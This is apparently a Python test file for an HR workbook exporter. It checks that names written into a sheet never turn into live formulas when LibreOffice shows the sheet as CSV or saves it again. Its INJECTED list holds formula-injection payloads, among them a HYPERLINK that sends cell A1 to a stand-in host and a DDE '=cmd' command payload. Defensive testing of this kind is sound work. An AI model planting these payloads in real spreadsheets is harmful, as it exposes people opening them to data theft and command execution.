"""What LibreOffice makes of a workbook: shown as CSV, and saved again by a clerk."""

import openpyxl

from hrdesk.workbooks.batch_sheet import BatchSheet
from tests.people import NAMES
from tests.workbooks.batches import (
    ACCOUNT,
    COLUMNS,
    IDENTITY,
    NAME,
    TITLES,
    batch_of,
    row_of,
    written,
)
from tests.workbooks.libreoffice import CSV, XLSX, office, read_csv, shown

TOP = len(TITLES) + 1
INJECTED = [
    '=HYPERLINK("http://a.b?"&A1,"点")',
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(A1:A9)",
    "'=1+1",
    "\t=1+1",
    "=cmd|'/c calc'!A0",
    "<r><t>=1</t></r>",
    "1e5",
    "007",
    "TRUE",
    "2026-03-18",
    " 空格 ",
    "a\nb",
    'a,"b"',
    "_x0041_",
]

__all__ = ["office"]


def sample() -> BatchSheet:
    names = [*NAMES, *INJECTED]
    return batch_of([row_of(n, name) for n, name in enumerate(names)])


def test_every_cell_is_shown_as_it_was_meant(tmp_path, office):
    sheet = sample()
    written(sheet, tmp_path / "b.xlsx")
    folder = office(tmp_path / "b.xlsx", CSV)
    rows, page = shown(sheet)
    assert read_csv(folder / "b-申报.csv") == rows
    assert read_csv(folder / "b-控制页.csv") == page


def test_nothing_changes_when_a_clerk_saves_it_again(tmp_path, office):
    sheet = sample()
    written(sheet, tmp_path / "b.xlsx")
    saved = openpyxl.load_workbook(office(tmp_path / "b.xlsx", XLSX) / "b.xlsx")
    cells = [cell for page in saved for row in page.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    rows = list(saved["申报"].iter_rows(min_row=TOP + 1, max_col=len(COLUMNS)))
    assert len(rows) == len(sheet.rows)
    for row, meant in zip(rows, sheet.rows, strict=True):
        for index in (IDENTITY, ACCOUNT):
            assert (row[index].value, row[index].data_type) == (meant[index], "s")
            assert row[index].number_format == "@"
        assert row[4].value.date() == meant[4]
        assert row[5].value == meant[5].isoformat()
        assert round(row[6].value * 100) == meant[6]
    assert [row[NAME].value for row in rows] == [row[NAME] for row in sheet.rows]
